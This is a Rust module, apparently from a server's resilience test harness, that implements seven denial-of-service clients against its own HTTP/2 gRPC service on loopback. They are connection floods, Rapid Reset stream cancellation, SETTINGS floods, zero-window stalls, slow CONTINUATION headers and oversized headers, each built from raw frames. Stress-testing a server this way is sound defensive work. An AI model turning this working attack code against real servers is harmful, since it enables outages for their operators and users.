//! Clients that mean harm, each kind as hard as one thread can. Those that speak HTTP/2 hold a certificate
//! of the cluster's authority: others do not get that far.

use std::io::Read as _;
use std::net::Ipv4Addr;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;
use std::{fs, io};

use anyhow::{Context as _, Result, bail};
use rustls::ClientConfig;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::runtime::Builder;
use tokio::task::JoinSet;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use crate::{dial, greeted, nth};

/// What there is.
pub(crate) const ALL: [&str; 7] = [
    "half_open",
    "strangers",
    "rapid_reset",
    "settings",
    "never_reads",
    "slow_headers",
    "long_headers",
];

/// Addresses that an attack comes from.
const SOURCES: u32 = 200;
/// Connections that say nothing, at a time.
const HALF_OPEN: usize = 4000;
/// Connections of the other kinds.
const FEW: usize = 4;
const MANY: usize = 500;
/// Calls whose answers are not read, on a connection.
const UNREAD: u32 = 1000;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
const END_STREAM: u8 = 1;
const CANCEL: u32 = 8;

/// Attacks until stdin ends, and then says how often it did what it does.
pub(crate) fn run(kind: &str, port: u16, secrets: &Path) -> Result<()> {
    let identity = if kind == "strangers" { "stranger" } else { "admin" };
    let read = |name: String| fs::read_to_string(secrets.join(name));
    let (crt, key) = (read(format!("{identity}.crt"))?, read(format!("{identity}.key"))?);
    let config = orlop_pki::tls::client_config(&read("ca.crt".to_owned())?, Some((&crt, &key)))?;
    let attack = Attack { port, config, done: Arc::default() };
    let (done, kind) = (Arc::clone(&attack.done), kind.to_owned());
    // Ends with the process.
    std::thread::spawn(move || attack.rage(&kind));
    io::stdin().read_to_end(&mut Vec::new())?;
    println!("done={}", done.load(Ordering::Relaxed));
    Ok(())
}

#[derive(Clone)]
struct Attack {
    port: u16,
    config: Arc<ClientConfig>,
    done: Arc<AtomicU64>,
}

impl Attack {
    fn rage(&self, kind: &str) -> Result<()> {
        Builder::new_current_thread().enable_all().build()?.block_on(async {
            let count = match kind {
                "half_open" => return self.half_open().await,
                "slow_headers" => MANY,
                "strangers" => 4 * FEW,
                _ => FEW,
            };
            let mut connections = JoinSet::new();
            for number in 0..count {
                let (attack, kind) = (self.clone(), kind.to_owned());
                connections.spawn(async move {
                    loop {
                        // Whoever is shown the door comes again.
                        let _ = attack.once(&kind, number).await;
                        tokio::task::yield_now().await;
                    }
                });
            }
            connections.join_next().await.context("nobody attacks")?.map_err(Into::into)
        })
    }

    async fn once(&self, kind: &str, number: usize) -> Result<()> {
        let source = source(u32::try_from(number).unwrap_or(0));
        if kind == "strangers" {
            self.did(1);
            let stream = dial(source, self.port).await?;
            let connector = TlsConnector::from(Arc::clone(&self.config));
            let mut stream = connector.connect("127.0.0.1".try_into()?, stream).await?;
            // The server's refusal.
            let _refused = stream.read(&mut [0; 64]).await;
            return Ok(());
        }
        let stream = greeted(source, self.port, &self.config).await?;
        match kind {
            "rapid_reset" => self.rapid_reset(stream).await,
            "settings" => self.settings(stream).await,
            "never_reads" => self.never_reads(stream).await,
            "slow_headers" => self.slow_headers(stream).await,
            "long_headers" => self.long_headers(stream).await,
            kind => bail!("no attack is called {kind:?}"),
        }
    }

    /// Connections without a word, each in the place of an older one.
    async fn half_open(&self) -> Result<()> {
        let mut silent = std::collections::VecDeque::new();
        for number in 0_u32.. {
            if silent.len() == HALF_OPEN {
                silent.pop_front();
            }
            if let Ok(stream) = dial(source(number), self.port).await {
                silent.push_back(stream);
                self.did(1);
            }
        }
        Ok(())
    }

    async fn rapid_reset(&self, mut stream: TlsStream<TcpStream>) -> Result<()> {
        let mut id = 1;
        loop {
            let mut batch = Vec::new();
            for _ in 0..64 {
                batch.extend(frame(HEADERS, END_HEADERS, id, &call()));
                batch.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
                id += 2;
            }
            self.write(&mut stream, &batch).await?;
            self.did(64);
        }
    }

    async fn settings(&self, stream: TlsStream<TcpStream>) -> Result<()> {
        let (mut reading, mut writing) = tokio::io::split(stream);
        let flood = frame(SETTINGS, 0, 0, &[]).repeat(256);
        let write = async {
            loop {
                writing.write_all(&flood).await?;
                writing.flush().await?;
                self.did(256);
            }
        };
        let read = async {
            let mut buffer = vec![0; 16 << 10];
            while reading.read(&mut buffer).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = write => ended,
            ended = read => ended,
        }
    }

    /// Calls, and no room for any answer.
    async fn never_reads(&self, mut stream: TlsStream<TcpStream>) -> Result<()> {
        // SETTINGS_INITIAL_WINDOW_SIZE.
        self.write(&mut stream, &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0])).await?;
        for number in 0..UNREAD {
            let id = 1 + 2 * number;
            let mut both = frame(HEADERS, END_HEADERS, id, &call());
            both.extend(frame(DATA, END_STREAM, id, &[0; 5]));
            self.write(&mut stream, &both).await?;
            self.did(1);
        }
        std::future::pending().await
    }

    /// One field each second, for ever.
    async fn slow_headers(&self, mut stream: TlsStream<TcpStream>) -> Result<()> {
        self.write(&mut stream, &frame(HEADERS, 0, 1, &call())).await?;
        loop {
            self.write(&mut stream, &frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y'])).await?;
            self.did(1);
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }

    /// Calls with nearly as many headers as there may be.
    async fn long_headers(&self, stream: TlsStream<TcpStream>) -> Result<()> {
        let (mut reading, mut writing) = tokio::io::split(stream);
        let mut field = vec![0, 1, b'x', 120];
        field.extend([b'y'; 120]);
        let block = field.repeat(120);
        let write = async {
            for number in 0.. {
                let id = 1 + 2 * number;
                let mut all = frame(HEADERS, 0, id, &call());
                for _ in 0..12 {
                    all.extend(frame(CONTINUATION, 0, id, &block));
                }
                all.extend(frame(CONTINUATION, END_HEADERS, id, &[]));
                all.extend(frame(DATA, END_STREAM, id, &[0; 5]));
                writing.write_all(&all).await?;
                writing.flush().await?;
                self.did(1);
            }
            Ok(())
        };
        let read = async {
            let mut buffer = vec![0; 16 << 10];
            while reading.read(&mut buffer).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = write => ended,
            ended = read => ended,
        }
    }

    async fn write(&self, stream: &mut TlsStream<TcpStream>, bytes: &[u8]) -> Result<()> {
        stream.write_all(bytes).await?;
        stream.flush().await?;
        Ok(())
    }

    fn did(&self, count: u64) {
        self.done.fetch_add(count, Ordering::Relaxed);
    }
}

fn source(number: u32) -> Ipv4Addr {
    nth(Ipv4Addr::new(127, 3, 0, 1), number % SOURCES)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call of `Memory` (RFC 7541: indexed fields, and literals that are not).
fn call() -> Vec<u8> {
    const PATH: &[u8] = b"/machine.MachineService/Memory";
    let mut block = vec![0x83, 0x87, 0x01, 1, b'n', 0x04, 30];
    block.extend(PATH);
    block.extend([0x0f, 0x10, 16]);
    block.extend(b"application/grpc");
    block
}
